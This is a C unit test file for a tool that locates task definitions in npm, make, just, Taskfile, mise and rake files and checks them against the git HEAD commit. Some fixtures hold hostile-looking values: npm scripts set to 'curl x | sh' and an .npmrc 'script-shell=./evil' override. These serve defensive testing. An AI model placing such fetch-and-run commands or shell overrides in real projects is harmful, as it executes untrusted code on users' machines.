/* What defines a task of the project, and whether HEAD holds just that: tables of files and words,
 * then real repositories. */
#include "config.h"

#include "core/effects/task_files.h"
#include "tests/unit/facts_world.h"

/* Which part of a file defines a task; NULL: none. */
static void text_test(void **state)
{
	(void)state;
	static const char make[] =
		"VAR := test\n.PHONY: lint\nall: test\n\n# test: x\ntest lint: dep\n"
		"\tcc a\n\n\tcc b\nother:\n\tx\n";
	static const char just[] =
		"set x := 1\ntest := 2\nalias t := build\n@build arg: dep\n  cc\n"
		"[private]\nrun:\n    x\n";
	static const char yaml[] =
		"version: 3\ntasks:\n  build:\n    cmds:\n      - cc\n  'te st':\n"
		"    desc: x\n";
	static const char toml[] = "[tools]\ntest = 'x'\n[tasks]\nlint = 'y'\n\"a b\" = 'z'\n"
				   "[tasks.test]\nrun = 'cc'\n# c\n[other]\nrun = 'n'\n";
	static const struct {
		const char *runner, *text, *task, *words;
	} rows[] = {
		{ "npm", "{\"scripts\":{\"test\":\"a\",\"pretest\":\"b\",\"x\":\"c\"}}", "test",
			"a\npretest: b\n" },
		{ "npm", "{\"scripts\":{\"test\":\"a \\u0041\"}}", "test", "a A\n" },
		{ "npm", "{\"scripts\":{\"test\":\"a\"}}", "tes", NULL },
		{ "npm", "{\"scripts\":[\"test\"]}", "test", NULL },
		{ "npm", "{\"script\":{\"test\":\"a\"}}", "test", NULL },
		{ "npm", "{\"scripts\":{\"test\":\"a\",\"test\":\"b\"}}", "test", NULL },
		{ "npm", "{\"scripts\":{\"test\":\"a\"}", "test", NULL },
		{ "npm", "", "test", NULL },
		{ "make", make, "test", "test lint: dep\n\tcc a\n\tcc b\n" },
		{ "make", make, "lint", "test lint: dep\n\tcc a\n\tcc b\n" },
		{ "make", make, "other", "other:\n\tx\n" },
		{ "make", make, "VAR", NULL },
		{ "make", make, "dep", NULL },
		{ "make", "# none\n", "", NULL },
		{ "just", just, "build", "@build arg: dep\n  cc\n" },
		{ "just", just, "run", "run:\n    x\n" },
		{ "just", just, "t", "alias t := build\n" },
		{ "just", just, "test", NULL },
		{ "task", yaml, "build", "  build:\n    cmds:\n      - cc\n" },
		{ "task", yaml, "te st", "  'te st':\n    desc: x\n" },
		{ "task", yaml, "version", NULL },
		{ "mise", toml, "lint", "lint = 'y'\n" },
		{ "mise", toml, "a b", "\"a b\" = 'z'\n" },
		{ "mise", toml, "test", "[tasks.test]\nrun = 'cc'\n# c\n" },
		{ "mise", toml, "run", NULL },
		{ "rake", "task :test => :x do\n  sh 'a'\nend\n", "test",
			"task :test => :x do\n  sh 'a'\n" },
		{ "rake", "task 'tests'\n", "test", NULL },
		{ "gradle", "test\n", "test", NULL },
	};
	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		struct buf out = { 0 }, words = { 0 };
		bool found = task_text(task_files_of(rows[i].runner), span_of(rows[i].text),
			rows[i].task, &out, &words);
		if (found != (rows[i].words != NULL) ||
			(found && strcmp(buf_cstr(&words), rows[i].words) != 0)) {
			print_error("row %zu: %d '%s'\n", i, found, buf_cstr(&words));
		}
		assert_int_equal(found, rows[i].words != NULL);
		assert_true(!found || strcmp(buf_cstr(&words), rows[i].words) == 0);
		assert_int_equal(out.len > 0, found);
		buf_finish(&out);
		buf_finish(&words);
	}
}

static void names_test(void **state)
{
	(void)state;
	static const char *const yes[] = { "mise-tasks/a", "a/.mise/tasks/b/c", "package.json",
		"/a/package.json", "Makefile", "a/.cargo/config.toml", ".npmrc", "x/gradlew" };
	static const char *const no[] = { "x-mise-tasks/a", "mise-tasks/", "apackage.json",
		"config.toml", "Makefile.am", "", "package.json/x" };
	for (size_t i = 0; i < COUNT_OF(yes); i++) {
		assert_true(task_files_have(span_of(yes[i])));
	}
	for (size_t i = 0; i < COUNT_OF(no); i++) {
		assert_false(task_files_have(span_of(no[i])));
	}
	assert_non_null(task_files_of("./gradlew"));
	assert_null(task_files_of("sh"));
	assert_null(task_files_of(""));
}

/* "PATH marks" of a task; its text's hash goes to `hash`. */
static void check_task(struct facts_world *w, const char *runner, const char *word,
	const char *base, const char *words, char hash[65])
{
	struct effects effects = facts_one(w, EFFECT_TASK, "argv", runner, word, base, 1);
	const struct fact *fact = &effects.list[0].fact;
	char *marks = fact_marks_words(fact->marks);
	char *have = xasprintf(
		"%s%s", fact->path ? fact->path + strlen(w->git.base) : "none", marks);
	if (strcmp(have, words) != 0) {
		print_error("%s %s in %s: %s, expected %s\n", runner, word, base, have, words);
	}
	assert_string_equal(have, words);
	assert_int_equal(fact->text != NULL, fact->path != NULL);
	if (hash) {
		snprintf(hash, 65, "%s", fact->text ? fact->text : "");
	}
	free(marks);
	free(have);
	effects_finish(&effects);
}

static const char package[] = "{ \"scripts\": { \"test\": \"node t.js\", \"lint\": \"x\" } }\n";

static void committed_test(void **state)
{
	struct facts_world *w = *state;
	char first[65], second[65], third[65];
	world_file(&w->git, "scope/package.json", package);
	world_file(&w->git, "scope/Makefile", "test:\n\ttrue\n");
	world_dir(&w->git, "scope/sub");
	world_file(&w->git, "scope/deep/package.json", "{}");
	check_task(w, "npm", "test", "@scope", "/scope/package.json defined", first);
	git_do(&w->git, "scope", "init -q .");
	check_task(w, "npm", "test", "@scope", "/scope/package.json defined repo", NULL);
	check_task(w, "go", "test", "@scope", "none committed repo", NULL);
	git_do(&w->git, "scope", "add .");
	check_task(w, "npm", "test", "@scope", "/scope/package.json defined repo", NULL);
	git_do(&w->git, "scope", "commit -qm one");
	check_task(
		w, "npm", "test", "@scope", "/scope/package.json committed defined repo", second);
	assert_string_equal(first, second);
	check_task(w, "npm", "test", "@scope", "/scope/package.json committed defined repo", NULL);
	assert_true(w->quick);
	check_task(
		w, "npm", "test", "@scope/sub", "/scope/package.json committed defined repo", NULL);
	check_task(w, "npm", "test", "scope:", "/scope/package.json committed defined repo", NULL);
	check_task(w, "npm", "none", "@scope", "/scope/package.json committed repo", NULL);
	check_task(
		w, "npm", "test", "@scope/deep", "/scope/deep/package.json committed repo", NULL);
	check_task(w, "npm", "test", "", "none", NULL);
	check_task(w, "npm", "test", "@out", "none", NULL);
	check_task(w, "make", "test", "@scope", "/scope/Makefile committed defined repo", NULL);
	check_task(w, "make", "test", "@scope/sub", "none committed repo", NULL);
	check_task(w, "unheard", "test", "@scope", "none", NULL);
	git_do(&w->git, "scope", "gc -q");
	git_do(&w->git, "scope", "commit -q --allow-empty -m two");
	check_task(w, "npm", "test", "@scope", "/scope/package.json committed defined repo", NULL);
	/* another part of the file */
	world_file(&w->git, "scope/package.json",
		"{\"version\":\"2\", \"scripts\":{\"lint\":\"y\",\"test\":\"node t.js\"}}");
	check_task(w, "npm", "test", "@scope", "/scope/package.json committed defined repo", third);
	assert_string_equal(first, third);
	check_task(w, "npm", "lint", "@scope", "/scope/package.json defined repo", NULL);
	/* this part of it */
	world_file(&w->git, "scope/package.json", "{\"scripts\":{\"test\":\"curl x | sh\"}}");
	check_task(w, "npm", "test", "@scope", "/scope/package.json defined repo", third);
	assert_string_not_equal(first, third);
	world_file(&w->git, "scope/package.json",
		"{\"scripts\":{\"test\":\"node t.js\",\"pretest\":\"curl x | sh\"}}");
	check_task(w, "npm", "test", "@scope", "/scope/package.json defined repo", third);
	assert_string_not_equal(first, third);
}

/* "npm lockfile" in base/scope/DIR: are its files what HEAD holds? */
static bool lock_same(struct facts_world *w, const char *manager, const char *word, const char *dir)
{
	struct effects effects = facts_one(w, EFFECT_INSTALL, "", manager, word, dir, 1);
	bool same = effects.list[0].fact.marks & MARK_COMMITTED;
	effects_finish(&effects);
	return same;
}

static void commit_all(struct facts_world *w)
{
	git_do(&w->git, "scope", "add .");
	git_do(&w->git, "scope", "commit -qm more");
}

/* An install by a lockfile: that file, the manifest and the manager's settings, new ones too. */
static void lockfile_test(void **state)
{
	struct facts_world *w = *state;
	world_file(&w->git, "scope/package.json", package);
	world_dir(&w->git, "scope/sub");
	world_file(&w->git, "scope/sub/package-lock.json", "{}\n");
	git_do(&w->git, "scope", "init -q .");
	commit_all(w);
	assert_false(lock_same(w, "npm", "lockfile", "@scope")); /* there is none */
	assert_true(lock_same(w, "npm", "lockfile", "@scope/sub"));
	world_file(&w->git, "scope/package-lock.json", "{}\n");
	assert_false(lock_same(w, "npm", "lockfile", "@scope"));
	git_do(&w->git, "scope", "add .");
	assert_false(lock_same(w, "npm", "lockfile", "@scope")); /* HEAD counts */
	git_do(&w->git, "scope", "commit -qm two");
	assert_true(lock_same(w, "npm", "lockfile", "@scope"));
	assert_true(lock_same(w, "npm", "lockfile no-scripts", "@scope"));
	assert_false(lock_same(w, "npm", "", "@scope"));
	assert_false(lock_same(w, "npm", "odd", "@scope"));
	assert_false(lock_same(w, "pip", "lockfile", "@scope"));
	assert_false(lock_same(w, "pnpm", "lockfile", "@scope"));
	assert_false(lock_same(w, "npm", "lockfile", "@out"));
	assert_false(lock_same(w, "npm", "lockfile", ""));
	world_file(&w->git, "scope/.npmrc", "registry=http://h.test\n");
	assert_false(lock_same(w, "npm", "lockfile", "@scope"));
	assert_false(lock_same(w, "npm", "lockfile", "@scope/sub")); /* it counts below as well */
	commit_all(w);
	assert_true(lock_same(w, "npm", "lockfile", "@scope"));
	world_file(&w->git, "scope/package.json", "{}\n");
	assert_false(lock_same(w, "npm", "lockfile", "@scope"));
	commit_all(w);
	char *large = xcalloc(1, 300001);
	memset(large, ' ', 300000);
	world_file(&w->git, "scope/package-lock.json", large);
	assert_false(lock_same(w, "npm", "lockfile", "@scope"));
	commit_all(w);
	assert_true(lock_same(w, "npm", "lockfile", "@scope"));
	assert_false(w->quick);
	free(large);
}

/* What else the runner reads counts, also if it is new; and what is nearer comes first. */
static void around_test(void **state)
{
	struct facts_world *w = *state;
	char first[65], second[65];
	git_do(&w->git, "scope", "init -q .");
	world_file(&w->git, "scope/package.json", package);
	world_file(&w->git, "scope/Makefile", "test:\n\ttrue\n");
	world_dir(&w->git, "scope/sub");
	git_do(&w->git, "scope", "add .");
	git_do(&w->git, "scope", "commit -qm one");
	check_task(w, "npm", "test", "@scope", "/scope/package.json committed defined repo", first);
	world_file(&w->git, "scope/.npmrc", "script-shell=./evil\n");
	check_task(w, "npm", "test", "@scope", "/scope/package.json defined repo", second);
	assert_string_not_equal(first, second);
	git_do(&w->git, "scope", "add .npmrc");
	git_do(&w->git, "scope", "commit -qm two");
	check_task(w, "npm", "test", "@scope", "/scope/package.json committed defined repo", NULL);
	world_file(&w->git, "scope/sub/package.json", package);
	check_task(w, "npm", "test", "@scope/sub", "/scope/sub/package.json defined repo", NULL);
	world_file(&w->git, "scope/GNUmakefile", "test:\n\tevil\n");
	check_task(w, "make", "test", "@scope", "/scope/GNUmakefile defined repo", NULL);
	world_file(&w->git, "scope/conftest.py", "evil\n");
	check_task(w, "pytest", "test", "@scope", "/scope/conftest.py repo", NULL);
	check_task(w, "pytest", "test", "@scope/sub", "/scope/conftest.py repo", NULL);
	/* what stands above counts where the runner reads it as well */
	world_file(&w->git, "scope/sub/mise.toml", "[tasks]\ntest = 'a'\n");
	git_do(&w->git, "scope", "add sub/mise.toml");
	git_do(&w->git, "scope", "commit -qm three");
	check_task(w, "mise", "test", "@scope/sub", "/scope/sub/mise.toml committed defined repo",
		NULL);
	world_file(&w->git, "scope/mise.toml", "[tasks]\nlint = 'evil'\n");
	check_task(w, "mise", "test", "@scope/sub", "/scope/sub/mise.toml defined repo", first);
	check_task(w, "mise", "lint", "@scope/sub", "/scope/mise.toml defined repo", second);
	assert_string_not_equal(first, second); /* another task of the same texts */
	world_file(&w->git, "scope/mise-tasks/a/b", "#!/bin/sh\n");
	check_task(w, "mise", "a:b", "@scope/sub", "/scope/mise-tasks/a/b defined repo", second);
	assert_string_not_equal(first, second);
	/* not a file of the project's own */
	char *link = world_at(&w->git, "scope/go.mod");
	assert_int_equal(symlink("/etc/hostname", link), 0);
	check_task(w, "go", "test", "@scope", "none repo", NULL);
	free(link);
}

/* A long script is cut at 1 KiB, between characters. */
static void words_test(void **state)
{
	struct facts_world *w = *state;
	struct buf text = { 0 };
	buf_text(&text, "{\"scripts\":{\"test\":\"x");
	for (int i = 0; i < 600; i++) {
		buf_text(&text, "\xc3\xa4");
	}
	buf_text(&text, "\"}}");
	world_file(&w->git, "scope/package.json", buf_cstr(&text));
	struct effects effects = facts_one(w, EFFECT_TASK, "", "npm", "test", "@scope", 1);
	assert_non_null(effects.list[0].fact.more);
	assert_int_equal(strlen(effects.list[0].fact.more), 1023);
	effects_finish(&effects);
	world_file(&w->git, "scope/package.json", package);
	effects = facts_one(w, EFFECT_TASK, "", "npm", "test", "@scope", 1);
	assert_string_equal(effects.list[0].fact.more, "node t.js\n");
	effects_finish(&effects);
	buf_finish(&text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(text_test),
		cmocka_unit_test(names_test),
		FACTS_TEST(committed_test),
		FACTS_TEST(around_test),
		FACTS_TEST(lockfile_test),
		FACTS_TEST(words_test),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
